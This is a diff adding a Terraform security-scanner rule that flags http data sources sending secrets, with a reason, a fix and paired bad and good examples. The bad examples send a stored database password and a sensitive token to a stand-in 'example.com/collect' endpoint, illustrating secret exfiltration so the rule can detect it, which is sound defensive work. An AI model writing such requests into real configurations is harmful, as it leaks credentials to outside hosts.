@@ -1,0 +1,58 @@
+rule "terraform-http-request-carries-secret" {
+  title    = "HTTP data source sends a secret"
+  severity = "critical"
+  area     = "data-protection/secrets"
+  resource = "data.http"
+
+  locals {
+    sends   = [for part in [self.url, self.request_body] : part if part != null]
+    carries = [for part in local.sends : issensitive(part) || length(contains_secret(part)) > 0]
+    places  = [for i, part in local.sends : part if known(local.carries[i]) && local.carries[i]]
+  }
+  require = !any(local.carries)
+  at      = local.places[0]
+  message = "${self.address} sends a secret in its ${name("url")} or body"
+
+  reason     = "Terraform sends the request on every plan, to whatever host the address names. A secret in an address also stays in the logs of every proxy and server on the way."
+  fix        = "Keep secret values out of the request: let the workload that needs the secret fetch it itself, or authenticate with a header to a host that you run."
+  references = ["https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http"]
+  aliases    = ["AWS-0134"]
+
+  example "terraform" {
+    bad  = <<-TF
+      data "aws_ssm_parameter" "password" {
+        name = "/db/password"
+      }
+      data "http" "example" {
+        url = "https://example.com/collect?p=$${data.aws_ssm_parameter.password.value}"
+      }
+    TF
+    good = <<-TF
+      data "http" "example" {
+        url = "https://ip-ranges.amazonaws.com/ip-ranges.json"
+      }
+    TF
+  }
+
+  example "terraform" {
+    bad  = <<-TF
+      variable "token" {
+        type      = string
+        sensitive = true
+      }
+      data "http" "example" {
+        url          = "https://example.com/collect"
+        method       = "POST"
+        request_body = jsonencode({ token = var.token })
+      }
+    TF
+    good = <<-TF
+      variable "region" {
+        default = "eu-west-1"
+      }
+      data "http" "example" {
+        url = "https://example.com/regions/$${var.region}"
+      }
+    TF
+  }
+}
